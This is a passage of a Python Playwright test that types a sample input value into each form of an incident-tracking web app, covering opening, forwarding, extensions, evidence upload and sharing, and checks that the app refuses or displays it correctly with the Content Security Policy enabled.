        return html_title(watch.data["reference"])

    def fill_open(watch: Watch) -> None:
        page = watch.page
        page.get_by_label("Workflow").select_option("press-referral")
        page.get_by_label("Title").fill(p)
        page.get_by_label("Summary").fill(p)
        click_submit(page, "Open incident")

    def opened(watch: Watch) -> list[str]:
        match = re.search(r"/incidents/(\d+)$", watch.page.url)
        flash = watch.text(".flash-success") or ""
        if match is None or not flash.endswith(" opened."):
            return [f"not opened: {watch.page.url} {flash!r}"]
        reference = (watch.text(".page-head p.muted") or "").split(" ", 1)[0]
        watch.data.update(incident_id=int(match.group(1)), reference=reference)
        if flash != f"{reference} opened.":
            return [f"opened {reference}, but the message says {flash!r}"]
        check = Check("opened").add(watch.problems("opened", title(watch)))
        check.equal("title", watch.texts("main h1")["main h1"], [p])
        return check.equal("summary", watch.texts("section.main-col > p.prewrap")["section.main-col > p.prewrap"],
                           [p]).failures

    def fill_forward(watch: Watch) -> None:
        step = open_details(watch.page.locator("aside"), "Forward to the press office")
        step.get_by_label("Outlet").fill(p)
        step.get_by_label("Journalist", exact=True).fill(p)
        step.get_by_label("Comment").fill(p)
        click_submit(step, "Forward to the press office")

    def forwarded(watch: Watch) -> list[str]:
        check = Check("forwarded").add(watch.problems("forwarded", title(watch)))
        check.equal("state", watch.text("[aria-label='Current state']"), "Forwarded to the press office")
        t = watch.texts("ol.history dd", "ol.history p.comment")
        check.equal("outlet and journalist", t["ol.history dd"], [p, p])
        return check.equal("comment", t["ol.history p.comment"], [p]).failures

    def fill_bad_extension(watch: Watch) -> None:
        form = open_details(watch.page.locator("ul.deadlines"), "Record an agreed extension")
        form.get_by_label("…or extend by").fill(p)
        form.get_by_label("Why it was agreed").fill(p)
        form.get_by_label("Agreed by").fill(p)
        click_submit(form, "Record extension")

    def bad_extension(watch: Watch) -> list[str]:
        check = Check("refused extension").add(watch.problems("refused extension", title(watch)))
        flash = watch.text(".flash-error")
        check.contains("message", flash, "Extension not recorded")
        check.contains("message quotes the length", flash, repr(typed_extend_by))
        form = watch.page.locator("ul.deadlines details")
        check.equal("extend-by shown back", form.get_by_label("…or extend by").input_value(), typed_extend_by)
        check.equal("reason shown back", form.get_by_label("Why it was agreed").input_value(), p)
        return check.equal("agreed-by shown back", form.get_by_label("Agreed by").input_value(), p).failures

    def fill_extension(watch: Watch) -> None:
        form = open_details(watch.page.locator("ul.deadlines"), "Record an agreed extension")
        form.get_by_label("…or extend by").fill("2 working days")
        click_submit(form, "Record extension")

    def extended(watch: Watch) -> list[str]:
        check = Check("extension").add(watch.problems("extension", title(watch)))
        check.contains("message", watch.text(".flash-success"), "Extension recorded")
        return check.contains("deadline", watch.text("ul.deadlines"), f"agreed by {p}: {p}").failures

    def fill_evidence(watch: Watch) -> None:
        form = open_details(watch.page.locator("section.main-col"), "Add a screenshot or file")
        form.get_by_label("Screenshot or file").set_input_files(
            files=[{"name": evidence_name(p), "mimeType": "text/plain", "buffer": b"plain evidence text\n"}])
        form.get_by_label("What it shows").fill(p)
        click_submit(form, "Upload")

    def uploaded(watch: Watch) -> list[str]:
        check = Check("evidence").add(watch.problems("evidence upload", title(watch)))
        flash = watch.text(".flash") or ""
        names = watch.texts("ul.evidence li > a")["ul.evidence li > a"]
        if "added; SHA-256" not in flash or len(names) != 1:
            return [*check.failures, f"evidence upload refused: {flash!r}, files {names!r}"]
        check.contains("message", flash, f"'{names[0]}' added")
        # Chromium writes " as %22 in a multipart file name; any other change is the app's display rule.
        allowed = {evidence_service.display_name(name)
                   for name in (evidence_name(p), evidence_name(p).replace('"', "%22"))}
        if names[0] not in allowed:
            check.failures.append(f"evidence name: expected one of {sorted(allowed)!r}, got {names[0]!r}")
        return check.contains("description", watch.text("ul.evidence li > span.muted"), f", {p})").failures

    def fill_bad_share(watch: Watch) -> None:
        form = open_details(watch.page.locator("aside"), "Share this incident")
        form.get_by_label("Share with (e-mail address)").fill(p)
        form.get_by_label("Reason").fill(share_reason(p))
        click_submit(form, "Share")

    def bad_share(watch: Watch) -> list[str]:
        check = Check("refused share").add(watch.problems("refused share", title(watch)))
        check.contains("message", watch.text(".flash-error"), "Not shared")
        form = open_details(watch.page.locator("aside"), "Share this incident")
        check.equal("e-mail shown back", form.get_by_label("Share with (e-mail address)").input_value(), p)
        return check.equal("reason shown back", form.get_by_label("Reason").input_value(), share_reason(p)).failures

    def fill_share(watch: Watch) -> None:
        form = open_details(watch.page.locator("aside"), "Share this incident")
        form.get_by_label("Share with (e-mail address)").fill(f"{SHARE_TARGET}@{DEMO_DOMAIN}")
        form.get_by_label("Reason").fill(share_reason(p))
        click_submit(form, "Share")

    def shared(watch: Watch) -> list[str]:
        check = Check("shared").add(watch.problems("shared", title(watch)))
        check.contains("message", watch.text(".flash-success"), "Shared with Rae Rep")
        shoot(watch, item.index, "form-journey")
        return check.contains("reason", watch.text("aside.side-col"), f"): {share_reason(p)}").failures

    def listed(watch: Watch) -> list[str]:
        check = Check("list").add(watch.problems("list", html_title("Incidents")))
        row = watch.page.locator("table.list tbody tr").filter(
            has=watch.page.locator(f"a[href='/incidents/{watch.data['incident_id']}']"))
        cell = row.locator("td.title .title-text")
        return check.equal("title", cell.inner_text() if row.count() else None, p).failures

    return Job(item.label, [
        Step(navigate("/incidents/new"), lambda w: w.problems("new incident form", html_title("Open an incident"))),
        Step(fill_open, opened),
        Step(fill_forward, forwarded),
        Step(fill_bad_extension, bad_extension, status=422),
        Step(fill_extension, extended),
        Step(fill_evidence, uploaded),
        Step(fill_bad_share, bad_share, status=422),
        Step(fill_share, shared),
        Step(lambda w: navigate("/incidents?" + urlencode({"q": p}))(w), listed),
    ])


def test_payload_typed_into_every_form(tabs, world: World, comms_state: dict) -> None:  # type: ignore[no-untyped-def]
    """A sample of the payloads typed by Chromium into the real forms, with the CSP on: open an incident, forward it
    (outlet, journalist, comment), an extension (refused with the payload as its length, then agreed), an
    evidence upload (file name, description), a share (refused with the payload as the address, then made)."""
    jobs = [form_journey(world.items[index]) for index in FORM_SAMPLE]
    # A tab each: its own cookie jar, so one tab's flash message cannot turn up on another's page.
    report(run_jobs(tabs(len(jobs), state=comms_state, csp=True, own_context=True), jobs),
           sum(len(job.steps) for job in jobs))
